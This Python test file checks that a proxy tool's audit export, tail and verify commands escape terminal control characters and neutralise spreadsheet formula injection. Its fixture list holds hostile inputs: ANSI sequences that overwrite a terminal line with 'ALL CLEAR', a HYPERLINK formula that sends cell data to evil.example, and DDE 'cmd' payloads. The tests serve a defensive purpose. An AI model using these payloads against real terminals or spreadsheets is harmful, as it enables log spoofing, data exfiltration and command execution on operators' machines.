"""`keyproxy audit export` and `audit tail`/`verify`: what a bot or a stranger put in a trail field reaches neither
the operator's terminal as control characters nor a spreadsheet as a formula (the review's PoC: a WebSocket
frame's `method` moved the cursor up and printed ALL CLEAR; another became a live =HYPERLINK)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from keyproxy.audit.trail import AuditTrail
from keyproxy.cli.audit_cmds import csv_cell, printable
from tests.conftest import Home

ESC = "\x1b"
HOSTILE = [
    ESC + "[1A" + ESC + "[2K" + ESC + "[31mALL CLEAR" + ESC + "[0m",  # rewrites the line above on a terminal
    '=HYPERLINK("http://evil.example/?"&A2,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line\nbreak\u2028and\u202eevil\x9b31m\x7f",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def hostile_trail(directory: Path) -> None:
    trail = AuditTrail(directory, b"k" * 32)
    for i, method in enumerate(HOSTILE):
        trail.append("request.deny", request_id=f"r{i}", bot=None, account="main", source_ip="127.0.0.1",
                     method=method, path="/main/ws-api/v3", code="unknown_bot", status=-1)
    trail.close()


def test_csv_export_escapes_controls_and_defuses_formulas(home: Home, tmp_path: Path) -> None:
    hostile_trail(tmp_path / "trail")
    out = home.run("audit", "export", "--since", "0", "--format", "csv", "--trail", str(tmp_path / "trail"))
    assert out.returncode == 0, out.stderr
    assert not CONTROL.search(out.stdout.replace("\r\n", "\n").replace("\n", "")), "a raw control character"
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert len(rows) == len(HOSTILE) and len(out.stdout.splitlines()) == len(HOSTILE) + 1  # one line a row
    for row in rows:
        for cell in row.values():  # a number may be negative: a spreadsheet reads it as a number
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(cell), cell
    methods = [r["method"] for r in rows]
    assert methods[0] == "\\x1b[1A\\x1b[2K\\x1b[31mALL CLEAR\\x1b[0m"
    assert methods[1] == "'" + HOSTILE[1]
    assert methods[5] == "'\\x09=1+1" and methods[6] == "'\\x0d=1+1"
    assert methods[7] == "line\\x0abreak\\u2028and\\u202eevil\\x9b31m\\x7f"
    assert {r["status"] for r in rows} == {"-1"}  # a number is a number, not a formula


def test_jsonl_export_and_tail_stay_escaped_json(home: Home, tmp_path: Path) -> None:
    """The JSON renderers escape control characters already (JSON's own \\u001b): checked, not changed."""
    hostile_trail(tmp_path / "trail")
    out = home.run("audit", "export", "--since", "0", "--trail", str(tmp_path / "trail")).stdout
    assert not CONTROL.search(out.replace("\n", ""))
    assert [json.loads(ln)["method"] for ln in out.splitlines()] == HOSTILE
    assert home.run("init").returncode == 0
    hostile_trail(home.root / "data" / "keyproxy" / "audit")  # tail reads this host's trail (MACs unchecked)
    out = home.run("audit", "tail", "-n", "50").stdout
    assert not CONTROL.search(out.replace("\n", ""))
    assert [json.loads(ln)["method"] for ln in out.splitlines()][-len(HOSTILE):] == HOSTILE


def test_verify_shows_a_trail_s_instance_name_escaped(home: Home, tmp_path: Path) -> None:
    """`audit verify` names the instance a trail's daemon.start line gives, read before the trail is verified."""
    assert home.run("init").returncode == 0
    trail = AuditTrail(tmp_path / "forged", b"not the vault's key" * 2)
    trail.append("daemon.start", instance=f"a{ESC}[2K{ESC}[32mok: all fine")
    trail.close()
    out = home.run("audit", "verify", str(tmp_path / "forged"))
    assert out.returncode == 1 and "MAC mismatch" in out.stdout
    assert ESC not in out.stdout and "a\\x1b[2K\\x1b[32mok: all fine" in out.stdout


@pytest.mark.parametrize("value, cell", [
    (None, ""), (5, "5"), (-1.5, "-1.5"), (True, "True"), ("plain /api/v3/order", "plain /api/v3/order"),
    ("=1+1", "'=1+1"), ("é and ü stay", "é and ü stay"), ("\x00", "\\x00"), ("\U000e0001", "\\U000e0001"),
])
def test_csv_cells(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_printable_leaves_printable_text_alone() -> None:
    assert printable("ip:loopback 10 failed authentications") == "ip:loopback 10 failed authentications"
